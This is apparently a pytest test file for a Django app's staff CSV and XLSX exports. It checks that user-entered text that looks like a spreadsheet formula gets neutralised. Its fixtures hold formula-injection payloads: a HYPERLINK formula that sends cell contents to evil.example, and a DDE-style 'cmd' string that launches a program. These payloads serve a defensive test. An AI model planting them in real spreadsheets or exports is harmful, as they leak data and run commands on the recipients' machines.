"""User text never becomes a formula in a spreadsheet (config.spreadsheet): the staff list's
CSV and XLSX exports, and the rule itself."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from applicants.models import Application
from config.spreadsheet import FORMULA_STARTS, csv_value, neutralised, open_workbook, write_cell
from tests.factories import ApplicationFactory, UserFactory

S = Application.Status
EVIL = 'HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def staff_client(client):
    client.force_login(UserFactory(role="staff"))
    return client


def poisoned_application(prefix: str) -> Application:
    return ApplicationFactory(
        submitted=True,
        title=f"{prefix}{EVIL}",
        company__name=f"{prefix}1+1",
        program__title=f"{prefix}cmd|' /C calc'!A0",
        total_cost=123_456_789,
    )


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", FORMULA_STARTS)
def test_the_xlsx_export_writes_user_text_as_text_cells(staff_client, prefix):
    poisoned_application(prefix)
    response = staff_client.get("/staff/applications/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    title, company, program = sheet["H2"], sheet["C2"], sheet["B2"]
    for cell in (title, company, program):
        assert cell.data_type == "s", (cell.coordinate, cell.value)
    assert title.value.endswith(EVIL)
    assert sheet["I2"].value == 123_456_789 and sheet["I2"].data_type == "n"


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", FORMULA_STARTS)
def test_the_csv_export_neutralises_text_a_spreadsheet_would_run(staff_client, prefix):
    poisoned_application(prefix)
    response = staff_client.get("/staff/applications/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    for label in ("과제명", "기업명", "사업"):
        assert row[label].startswith("'" + prefix), (label, row[label])
    assert row["과제명"] == f"'{prefix}{EVIL}"
    assert row["총사업비(원)"] == "123456789"


def test_a_negative_amount_is_a_number_and_text_like_it_is_text(tmp_path):
    path = str(tmp_path / "book.xlsx")
    workbook = open_workbook(path)
    sheet = workbook.add_worksheet()
    for col, value in enumerate([-5, "-5", "=1+1", Decimal("-2.5"), None]):
        write_cell(sheet, 0, col, value)
    workbook.close()
    cells = openpyxl.load_workbook(path).active[1]
    assert [(cell.value, cell.data_type) for cell in cells[:4]] == [
        (-5, "n"),
        ("-5", "s"),
        ("=1+1", "s"),
        (-2.5, "n"),
    ]
    assert [csv_value(value) for value in (-5, "-5", None)] == [-5, "'-5", ""]


@given(st.text())
def test_no_neutralised_text_starts_a_formula_and_nothing_else_changes(text):
    safe = neutralised(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)
    assert (safe == text) == (not text.startswith(FORMULA_STARTS))


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_stay_numbers_in_csv(number):
    assert csv_value(number) == number
